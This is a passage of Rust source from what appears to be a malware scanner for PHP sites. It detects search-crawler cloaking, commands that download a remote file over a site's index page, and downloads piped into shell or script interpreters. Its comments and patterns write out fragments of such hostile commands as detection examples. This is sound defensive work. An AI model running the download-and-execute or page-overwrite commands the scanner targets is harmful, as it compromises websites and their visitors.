        // `$ua = strtolower($_SERVER['HTTP_USER_AGENT']);`, then `if (strpos($ua, 'googlebot') …`.
        let kept =
            (i.saturating_sub(8)..i).rev().take_while(|&k| !is_op(t.get(k), b";")).find_map(|k| match t[k].tok {
                Tok::Var(v) if is_op(t.get(k + 1), b"=") => Some(v),
                _ => None,
            });
        if let Some(v) = kept {
            let tests =
                |k: usize| t[k + 2..tokens::close_of(t, k + 1)].iter().any(|x| matches!(x.tok, Tok::Var(n) if n == v));
            ifs.extend((i..t.len().min(i + 400)).filter(|&k| keyword(k) && tests(k)).take(4));
        }
        ifs.into_iter().find_map(|k| crawler_page(text, t, k))
    })
}

/// Whether the `if` at `k` tests for a crawler and holds a page of its own; where it is.
fn crawler_page(text: &[u8], t: &[Token<'_>], k: usize) -> Option<usize> {
    let close = tokens::close_of(t, k + 1);
    if !is_op(t.get(close), b")") {
        return None;
    }
    // A crawler's name tested (not in a list of phones' names: a mobile theme's switch).
    let c = (k + 2..close)
        .find(|&c| str_value(&t[c]).is_some_and(|v| CRAWLER.is_match(v) && !URL.is_match(v) && !MOBILE.is_match(v)))?;
    // The test that holds it, negated (`!stristr(…)`, `strpos(…) === false`, `preg_match(…) == 0`)?
    let call = (k + 2..c)
        .rev()
        .find(|&f| ident(&t[f]).is_some() && is_op(t.get(f + 1), b"(") && tokens::close_of(t, f + 1) > c);
    if let Some(f) = call {
        let end = tokens::close_of(t, f + 1);
        let equal = is_op(t.get(end + 1), b"===") || is_op(t.get(end + 1), b"==");
        let nothing = t.get(end + 2).is_some_and(|x| {
            matches!(x.tok, Tok::Num(b"0")) || ident(x).is_some_and(|n| same_ci(n, b"false") || same_ci(n, b"null"))
        });
        if is_op(t.get(f - 1), b"!") || (equal && nothing) {
            return None;
        }
    }
    if !(is_op(t.get(close + 1), b"{") || is_op(t.get(close + 1), b":")) {
        return None;
    }
    // The page: pieces written outside PHP, with at most a short echo between them.
    let (mut piece, mut size, mut title) = (close + 2, 0, false);
    for _ in 0..PAGE_PIECES {
        let Some(at) = t.get(piece).filter(|x| matches!(x.tok, Tok::Close)).map(|x| x.at) else { break };
        let page = &text[at..t.get(piece + 1).map_or(text.len(), |x| x.at)];
        size += page.len();
        title |= memchr::memmem::find(&page[..page.len().min(8 << 10)].to_ascii_lowercase(), b"<title").is_some();
        let gap = t.len().min(piece + 1 + PAGE_GAP);
        let Some(next) = (piece + 1..gap).find(|&j| matches!(t[j].tok, Tok::Close)) else { break };
        let block_ends = t[piece + 1..next].iter().any(|x| {
            is_op(Some(x), b"}")
                || ident(x).is_some_and(|n| same_ci(n, b"else") || same_ci(n, b"elseif") || same_ci(n, b"endif"))
        });
        if block_ends {
            break;
        }
        piece = next;
    }
    (size >= CRAWLER_PAGE && title).then_some(t[k].at)
}

/// Phones' and tablets' names: a list of them with a crawler's is a mobile theme's switch.
static MOBILE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i-u)iphone|ipad|ipod|android|blackberry|mobile|opera mini|webos|kindle|silk/")
        .expect("pattern compiles")
});

/// Up to this size a file's cloaking signs are taken to belong together.
const CLOAK_WHOLE_FILE: usize = 16 << 10;

/// Bytes before the end of a download command's pattern where its start is looked for (the
/// program's name, a blank and the pattern's gap of 200 bytes).
const DOWNLOAD_GAP: usize = 240;
/// Bytes after a `|` within which a piped download's pattern ends.
const PIPE_TAIL: usize = 64;

/// Whether the text after a `|` starts an interpreter (`| sh`, `|sudo perl `), as the end of
/// `PIPED_DOWNLOAD` does.
fn pipes_to_interpreter(after: &[u8]) -> bool {
    let skip_blanks = |s: &[u8]| -> usize { s.iter().take_while(|c| c.is_ascii_whitespace()).count() };
    let mut k = skip_blanks(after);
    if after.len() >= k + 5 && after[k..k + 4].eq_ignore_ascii_case(b"sudo") && after[k + 4].is_ascii_whitespace() {
        k += 4;
        k += skip_blanks(&after[k..]);
    }
    let rest = &after[k..];
    ["python2", "python3", "python", "perl", "php", "ruby", "bash", "dash", "zsh", "ksh", "sh"].iter().any(|w| {
        rest.len() >= w.len()
            && rest[..w.len()].eq_ignore_ascii_case(w.as_bytes())
            && rest.get(w.len()).is_none_or(|c| c.is_ascii_whitespace())
    })
}

/// The most literal text joined for `download_and_run`.
const MAX_COMMAND_TEXT: usize = 1 << 20;
/// The longest literal read as one command line for a back-connect.
const SHORT_COMMAND: usize = 4096;

/// Where the file's literals (commands are often built from several) hold a download that is
/// then started: the literals joined by spaces, never comments.
/// Where a command downloads another site's file into a site's home page (`curl https://… >>
/// $dir/index.php`, `curl -o $d/index.php https://…`, `wget -qO index.html https://…`), written
/// in one literal; the page is named in the command, or a variable in it or joined after it
/// is given a home page's name.
fn download_into_home_page(t: &[Token<'_>]) -> Option<usize> {
    // (Searchers made once: most literals are short and have no address.)
    static WORDS: LazyLock<[memchr::memmem::Finder<'static>; 3]> =
        LazyLock::new(|| [b"://".as_slice(), b"curl ", b"wget "].map(memchr::memmem::Finder::new));
    let [scheme, curl, wget] = &*WORDS;
    // The variables given a home page's path, found once (`$f = $dir . '/index.php';`).
    let mut pages: Option<Vec<&[u8]>> = None;
    t.iter().enumerate().find_map(|(i, x)| {
        let (Tok::Str(quoted) | Tok::Backtick(quoted)) = &x.tok else { return None };
        let v = quoted.value;
        if !(12..=1024).contains(&v.len())
            || scheme.find(v).is_none()
            || (curl.find(v).is_none() && wget.find(v).is_none())
        {
            return None;
        }
        let target = saved_to(v)?;
        if names_home_page(target) {
            return Some(x.at);
        }
        let pages = pages.get_or_insert_with(|| vars_given_home_page(t));
        let named = |n: &[u8]| pages.contains(&n);
        // `"curl -o $f https://…"`, or the command ending with the redirect and the path joined.
        let joined = target.is_empty()
            && is_op(t.get(i + 1), b".")
            && match t.get(i + 2).map(|x| &x.tok) {
                Some(Tok::Str(l)) => names_home_page(l.value),
                Some(Tok::Var(n)) => named(n),
                _ => false,
            };
        (joined || quoted.vars.iter().any(|n| named(n))).then_some(x.at)
    })
}

/// Where a command saves its output: the word after a redirect (`>`, `>>`; not `2>`, `&>` nor
/// `>&`) or after `-o`, `-O` (alone or among short options, `-qO`, or attached, `-o/x`),
/// `--output`, `--output-document` (empty when the command ends there), without its quotes
/// and a `;` after it; `None` when it saves nothing.
fn saved_to(command: &[u8]) -> Option<&[u8]> {
    let words: Vec<&[u8]> = command.split(|b| b.is_ascii_whitespace()).filter(|w| !w.is_empty()).collect();
    let after = |k: usize| words.get(k + 1).copied().unwrap_or_default();
    fn clean(w: &[u8]) -> &[u8] {
        let w = w.strip_suffix(b";").unwrap_or(w);
        input::TrimQuotes::trim_ascii_matches_quotes(w.trim_ascii())
    }
    words.iter().enumerate().find_map(|(k, w)| {
        let short = |o: u8| {
            w.len() >= 2
                && w[0] == b'-'
                && w[1] != b'-'
                && w[1..].iter().all(u8::is_ascii_alphabetic)
                && w.ends_with(&[o])
        };
        let target = match *w {
            b">" | b">>" | b"--output" | b"--output-document" => after(k),
            _ if short(b'o') || short(b'O') => after(k),
            _ if w.starts_with(b"--output-document=") => &w[b"--output-document=".len()..],
            _ if (w.starts_with(b"-o") || w.starts_with(b"-O"))
                && w.get(2).is_some_and(|b| matches!(b, b'/' | b'.' | b'$')) =>
            {
                &w[2..]
            }
            _ if w.starts_with(b">") && !w.starts_with(b">&") => {
                w.strip_prefix(b">>").or_else(|| w.strip_prefix(b">")).unwrap_or_default()
            }
            _ => return None,
        };
        Some(clean(target))
    })
}

/// The variables given, somewhere in the file, a path that names a home page (`$f = $dir .
/// '/' . 'index.php';`, `$f = "/home/$d/public_html/index.php";`): one pass.
fn vars_given_home_page<'a>(t: &[Token<'a>]) -> Vec<&'a [u8]> {
    let mut out = Vec::new();
    for k in 0..t.len().saturating_sub(1) {
        let Tok::Var(v) = t[k].tok else { continue };
        if out.len() < MAX_PAGE_VARS
            && is_op(t.get(k + 1), b"=")
            && t[k + 2..]
                .iter()
                .take(MAX_PATH_TOKENS)
                .take_while(|x| !matches!(x.tok, Tok::Op(b";")))
                .any(|x| str_value(x).is_some_and(names_home_page))
            && !out.contains(&v)
        {
            out.push(v);
        }
    }
    out
}

/// Most tokens of a path's assignment read (`vars_given_home_page`).
const MAX_PATH_TOKENS: usize = 24;
/// Most variables given a home page's path remembered.
const MAX_PAGE_VARS: usize = 64;

/// A site's home page by name (`index.php`, `/index.html`), alone or at a path's end.
fn names_home_page(v: &[u8]) -> bool {
    let v = v.trim_ascii();
    v.len() <= 256
        && [&b"index.php"[..], b"index.html", b"index.htm"].iter().any(|h| {
            v.len() >= h.len()
                && v[v.len() - h.len()..].eq_ignore_ascii_case(h)
                && v.len().checked_sub(h.len() + 1).is_none_or(|k| !v[k].is_ascii_alphanumeric())
        })
}

fn download_and_run(t: &[Token<'_>]) -> Option<usize> {
    let mut text = Vec::new();
    let mut starts: Vec<(usize, usize)> = Vec::new();
    for x in t {
        let (Tok::Str(quoted) | Tok::Backtick(quoted)) = &x.tok else { continue };
        let value = quoted.value;
        if text.len() + value.len() >= MAX_COMMAND_TEXT {
            break;
        }
        starts.push((text.len(), x.at));
        text.extend_from_slice(value);
        text.push(b' ');
    }
    let literal_at = |pos: usize| {
        let i = starts.partition_point(|(s, _)| *s <= pos);
        starts.get(i.saturating_sub(1)).map(|(_, at)| *at)
    };
    if memchr::memmem::find(&text, b"$(").is_some()
        && let Some(m) = SUBSTITUTED_DOWNLOAD.find(&text)
    {
        return literal_at(m.start());
    }
    // The patterns run only just before the places they end at (a `|` an interpreter's name
    // follows, an address's `://`): their gap of 200 bytes made the automaton slow on large
    // texts, and most literals have no such place.
    for bar in memchr::memchr_iter(b'|', &text) {
        if !pipes_to_interpreter(&text[bar + 1..]) {
            continue;
        }
        let end = text.len().min(bar + PIPE_TAIL);
        if let Some(m) = PIPED_DOWNLOAD.find_at(&text[..end], bar.saturating_sub(DOWNLOAD_GAP)) {
            return literal_at(m.start());
        }
    }
    // Each download once: the windows after them are read at most once in all.
    let mut seen_to = 0;
    for scheme in memchr::memmem::find_iter(&text, b"://") {
        let Some(m) = DOWNLOAD.find_at(&text[..scheme + 3], scheme.saturating_sub(DOWNLOAD_GAP)) else { continue };
        let from = m.end().max(seen_to);
        let to = text.len().min(m.end() + RUN_WINDOW);
        seen_to = seen_to.max(to);
        if from < to && RUN.is_match(&text[from..to]) {
            return literal_at(m.start());
        }
    }
    None
}
